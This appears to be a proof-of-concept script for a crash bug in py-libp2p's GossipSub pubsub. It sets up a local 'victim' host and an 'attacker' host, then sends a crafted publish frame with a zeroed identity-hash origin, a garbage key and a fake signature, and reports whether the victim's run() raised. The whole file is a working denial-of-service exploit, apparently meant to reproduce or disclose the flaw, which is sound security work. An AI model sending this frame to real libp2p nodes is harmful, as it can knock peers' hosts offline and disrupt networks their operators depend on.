"""A gossip message whose origin is a hash, with a key that is none, ends the host."""

import sys

import trio
from libp2p import new_host
from libp2p.peer.peerinfo import PeerInfo
from libp2p.pubsub.gossipsub import GossipSub
from libp2p.pubsub.pb import rpc_pb2
from libp2p.pubsub.pubsub import Pubsub
from libp2p.tools.anyio_service import background_trio_service
from libp2p.utils import encode_varint_prefixed
from multiaddr import Multiaddr

LISTEN = [Multiaddr("/ip4/127.0.0.1/tcp/0")]
MESHSUB, TOPIC = "/meshsub/1.1.0", "topic"


def build_frame() -> bytes:
    message = rpc_pb2.Message(
        from_id=b"\x12\x20" + bytes(32),
        seqno=bytes(8),
        data=b"x",
        topicIDs=[TOPIC],
        key=b"garbage",
        signature=b"x",
    )
    return encode_varint_prefixed(rpc_pb2.RPC(publish=[message]).SerializeToString())


async def run_victim(victim, ready, outcome):
    router = GossipSub([MESHSUB], 6, 4, 12, heartbeat_interval=1)
    pubsub = Pubsub(victim, router)
    try:
        async with victim.run(LISTEN):
            async with background_trio_service(pubsub), background_trio_service(router):
                await pubsub.wait_until_ready()
                await pubsub.subscribe(TOPIC)
                ready.set()
                await trio.sleep_forever()
    except BaseExceptionGroup as error:
        outcome.append(error)


async def main():
    victim, attacker, outcome, ready = new_host(), new_host(), [], trio.Event()
    attacker.set_stream_handler(MESHSUB, lambda _stream: trio.sleep_forever())
    async with trio.open_nursery() as nursery, attacker.run(LISTEN):
        nursery.start_soon(run_victim, victim, ready, outcome)
        await ready.wait()
        await attacker.connect(PeerInfo(victim.get_id(), victim.get_addrs()))
        stream = await attacker.new_stream(victim.get_id(), [MESHSUB])
        await stream.write(build_frame())
        with trio.move_on_after(10):
            while not outcome:
                await trio.sleep(0.1)
        nursery.cancel_scope.cancel()
    for error in outcome:
        print("the victim's run() raised:", repr(error)[:300])
    return 0 if outcome else 1


if __name__ == "__main__":
    sys.exit(trio.run(main))
